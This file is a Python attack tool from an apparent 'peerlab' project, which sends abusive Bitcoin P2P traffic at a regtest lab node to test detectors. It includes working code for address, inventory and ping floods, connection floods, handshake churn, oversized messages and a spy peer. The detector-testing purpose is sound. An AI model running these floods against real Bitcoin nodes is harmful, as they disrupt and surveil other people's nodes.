#!/usr/bin/env python3
"""peerlab attack tool: real P2P traffic against one lab node, to prove the detectors.

Run as a container of the collector image joined to the lab's Docker network, from outside the
topology (playbooks/attack.yml does this):
  attack.py <kind> --target lab-n1:18444 [options]      (regtest)
Kinds:
  addr-flood      handshake, then --messages addr messages of 1000 addresses each (in 10.0.0.0/8)
  addr-oversized  handshake, then one addr message of 1001 addresses (one over the limit: misbehaving)
  ping-spam       handshake, then --pings pings, one every --every seconds
  subnet-flood    --connections connections from this one address (one /24, one /16), held --hold s
  inbound-flood   the same, then all dropped at once (inbound peers dropping)
  connect-listen  --connections connections one after the other, each held --hold s answering pings
                  and relaying nothing (LinkingLion-like)
  inv-flood       handshake, then --messages inv messages of 5000 made-up transactions each, 0.2 s apart
  spy-peer        handshake asking for transactions (relay), then --hold s taking every announcement and
                  asking for none (peer-observer #43); the lab must make transactions meanwhile
  unknown-messages  handshake, then --messages messages of made-up types, 0.2 s apart
  handshake-churn --connections connections one after the other, each sending version, reading the
                  node's version and leaving before verack
Speaks Bitcoin's P2P protocol (v1 transport) through python-bitcoinlib (Debian's python3-bitcoinlib).
Prints one line per step and a JSON summary last.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import random
import socket
import sys
import time
from typing import Any

import bitcoin
from bitcoin.core import Hash
from bitcoin.messages import MsgSerializable, msg_addr, msg_inv, msg_ping, msg_pong, msg_verack, msg_version
from bitcoin.net import CAddress, CInv

PROTOCOL = 70016
USER_AGENT = b"/peerlab-attack:1/"


def say(text: str) -> None:
    print(f"peerlab-attack: {text}", flush=True)


class Peer:
    """One v1 P2P connection that has completed the version handshake (or, with verack=False, that
    sent its version and read the node's, and sends no verack). relay: whether the node should
    announce transactions to it (the version message's relay flag)."""

    def __init__(self, host: str, port: int, timeout: float = 15.0, relay: bool = False, verack: bool = True) -> None:
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.buffer = b""
        self.pings_answered = 0
        self.announced = 0  # inventory entries the node sent us
        version = msg_version(PROTOCOL)
        version.nServices = 0
        version.nTime = int(time.time())
        version.addrTo.ip, version.addrTo.port = socket.gethostbyname(host), port
        version.addrFrom.ip, version.addrFrom.port = "0.0.0.0", 0
        version.nNonce = random.getrandbits(64)
        version.strSubVer = USER_AGENT
        version.nStartingHeight = 0
        version.fRelay = relay
        self.send(version)
        deadline = time.monotonic() + timeout
        got_version = got_verack = False
        while not (got_version and got_verack):
            if time.monotonic() > deadline:
                raise TimeoutError(f"{host}:{port}: no version handshake within {timeout:.0f} s")
            message = self.receive(deadline - time.monotonic())
            if message is None:
                continue
            if message.command == b"version":
                got_version = True
                if not verack:
                    return
                self.send(msg_verack(PROTOCOL))
            elif message.command == b"verack":
                got_verack = True

    def send(self, message: Any) -> None:
        self.sock.sendall(message.to_bytes())

    def send_raw(self, command: bytes, payload: bytes = b"") -> None:
        """A message of any type, framed as the network's (for types python-bitcoinlib does not know)."""
        header = bitcoin.params.MESSAGE_START + command.ljust(12, b"\0") + len(payload).to_bytes(4, "little")
        self.sock.sendall(header + Hash(payload)[:4] + payload)

    def receive(self, timeout: float) -> Any:
        """The next message (None for one python-bitcoinlib does not know); pings are answered."""
        self.sock.settimeout(max(0.05, timeout))
        while True:
            if len(self.buffer) >= 24:
                size = int.from_bytes(self.buffer[16:20], "little")
                if len(self.buffer) >= 24 + size:
                    raw, self.buffer = self.buffer[: 24 + size], self.buffer[24 + size:]
                    try:  # python-bitcoinlib prints a line for each command it does not know
                        with contextlib.redirect_stdout(io.StringIO()):
                            message = MsgSerializable.stream_deserialize(io.BytesIO(raw), protover=PROTOCOL)
                    except Exception:  # bitcoinlib raises its own errors for layouts it does not know
                        return None
                    if message is not None and message.command == b"ping":
                        self.send(msg_pong(PROTOCOL, message.nonce))
                        self.pings_answered += 1
                    elif message is not None and message.command == b"inv":
                        self.announced += len(message.inv)
                    return message
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("the node closed the connection")
            self.buffer += chunk

    def listen(self, seconds: float) -> None:
        """Read (answering pings) for `seconds`, sending nothing of our own."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                self.receive(deadline - time.monotonic())
            except TimeoutError:
                break

    def close(self) -> None:
        self.sock.close()


def flood_addresses(count: int, seed: int) -> list[CAddress]:
    """Addresses in 10.0.0.0/8: bitcoind counts and rate-limits them like any, but its address
    manager keeps only routable ones, so the node never tries to connect out of the lab to them."""
    rng = random.Random(seed)
    out: list[Any] = []
    while len(out) < count:
        address = CAddress(PROTOCOL)
        address.nTime = int(time.time()) - rng.randrange(3600)
        address.nServices = 1 | 8 | 1024  # NETWORK, WITNESS, NETWORK_LIMITED
        address.ip = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        address.port = 8333
        out.append(address)
    return out


def flood(host: str, port: int, args: argparse.Namespace, make: Any, what: str, pause: float) -> None:
    """--messages messages from one peer, each made by make(index), `pause` s apart, then --hold s of listening."""
    peer = Peer(host, port)
    for index in range(args.messages):
        peer.send(make(index))
        say(f"sent {what} #{index + 1}")
        peer.listen(pause)
    peer.listen(args.hold)
    peer.close()


def addr_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    def make(index: int) -> Any:
        message = msg_addr(PROTOCOL)
        message.addrs = flood_addresses(1000, seed=index)
        return message

    flood(host, port, args, make, "addr of 1000 addresses", 0.5)
    return {"addresses": 1000 * args.messages}


def addr_oversized(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    """One addr message of 1001 addresses, one more than a peer may send (MAX_ADDR_TO_SEND):
    bitcoind marks the peer misbehaving, discourages its address and disconnects it."""
    peer = Peer(host, port)
    message = msg_addr(PROTOCOL)
    message.addrs = flood_addresses(1001, seed=1001)
    peer.send(message)
    say("sent one addr message of 1001 addresses")
    try:
        peer.listen(args.hold)
    except ConnectionError:
        say("the node closed the connection")
        return {"addresses": 1001, "disconnected": True}
    finally:
        peer.close()
    return {"addresses": 1001, "disconnected": False}


def ping_spam(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    peer = Peer(host, port)
    for index in range(args.pings):
        peer.send(msg_ping(PROTOCOL, random.getrandbits(64)))
        say(f"sent ping #{index + 1}")
        peer.listen(args.every)
    peer.listen(args.hold)
    peer.close()
    return {"pings": args.pings}


def connections(host: str, port: int, args: argparse.Namespace, drop: bool) -> dict[str, Any]:
    peers = []
    for index in range(args.connections):
        peers.append(Peer(host, port))
        say(f"connection #{index + 1} up")
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline:
        for peer in peers:
            peer.listen(min(0.2, max(0.0, deadline - time.monotonic())))
    for peer in peers:
        peer.close()
    say(f"{'dropped' if drop else 'closed'} {len(peers)} connections")
    return {"connections": len(peers), "held": args.hold}


def connect_listen(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    for index in range(args.connections):
        peer = Peer(host, port)
        peer.listen(args.hold)
        peer.close()
        say(f"connection #{index + 1}: listened {args.hold} s, relayed nothing, left")
        time.sleep(0.5)
    return {"connections": args.connections, "held": args.hold}


def inv_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    """inv messages of 5000 transactions nobody made (MSG_TX, random ids): far more than a node
    announces and more than a node tracks per peer. The node asks for some; nothing is sent back."""
    rng = random.Random(args.seed)

    def make(_index: int) -> Any:
        message = msg_inv(PROTOCOL)
        message.inv = [CInv() for _entry in range(5000)]
        for entry in message.inv:
            entry.type, entry.hash = 1, rng.randbytes(32)
        return message

    flood(host, port, args, make, "inv of 5000 transactions", 0.2)
    return {"entries": 5000 * args.messages}


def spy_peer(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    """Takes the node's transaction announcements for --hold s and asks for none, announces none."""
    peer = Peer(host, port, relay=True)
    peer.listen(args.hold)
    peer.close()
    say(f"took {peer.announced} announcements in {args.hold:.0f} s and asked for none")
    return {"announced": peer.announced, "held": args.hold}


def unknown_messages(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    peer = Peer(host, port)
    rng = random.Random(args.seed)
    for _count in range(args.messages):
        peer.send_raw(("zz" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _char in range(6))).encode())
        peer.listen(0.2)
    say(f"sent {args.messages} messages of made-up types")
    peer.listen(args.hold)
    peer.close()
    return {"messages": args.messages}


def handshake_churn(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    for index in range(args.connections):
        peer = Peer(host, port, verack=False)
        peer.close()
        say(f"connection #{index + 1}: sent version, read the node's, left")
    return {"connections": args.connections}


def subnet_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    return connections(host, port, args, drop=False)


def inbound_flood(host: str, port: int, args: argparse.Namespace) -> dict[str, Any]:
    return connections(host, port, args, drop=True)


KINDS = {"addr-flood": addr_flood, "addr-oversized": addr_oversized, "ping-spam": ping_spam, "subnet-flood": subnet_flood,
         "inbound-flood": inbound_flood, "connect-listen": connect_listen, "inv-flood": inv_flood, "spy-peer": spy_peer,
         "unknown-messages": unknown_messages, "handshake-churn": handshake_churn}
# Per kind: (connections, hold seconds); and messages.
DEFAULTS = {"subnet-flood": (6, 40.0), "inbound-flood": (8, 25.0), "connect-listen": (4, 5.0), "spy-peer": (1, 40.0),
            "handshake-churn": (12, 0.0)}
MESSAGES = {"inv-flood": 4, "unknown-messages": 20}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="peerlab attack tool (P2P, against one lab node)")
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("--target", required=True, help="host:port of the node's P2P listener")
    parser.add_argument("--messages", type=int, default=0)
    parser.add_argument("--pings", type=int, default=8)
    parser.add_argument("--every", type=float, default=1.0)
    parser.add_argument("--connections", type=int, default=0)
    parser.add_argument("--hold", type=float, default=-1)
    parser.add_argument("--seed", type=int, default=0, help="for made-up transaction ids and message types")
    args = parser.parse_args(argv)
    args.messages = args.messages or MESSAGES.get(args.kind, 3)
    connections_default, hold_default = DEFAULTS.get(args.kind, (1, 3.0))
    args.connections = args.connections or connections_default
    args.hold = hold_default if args.hold < 0 else args.hold
    bitcoin.SelectParams("regtest")  # a lab tool: regtest's network magic only
    host, _sep, port = args.target.rpartition(":")
    started = time.time()
    try:
        summary = KINDS[args.kind](host, int(port), args)
    except (OSError, TimeoutError, ConnectionError) as error:
        print(json.dumps({"attack": args.kind, "target": args.target, "error": str(error)}), flush=True)
        return 1
    print(json.dumps({"attack": args.kind, "target": args.target, "started": started, "ended": time.time(), **summary}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
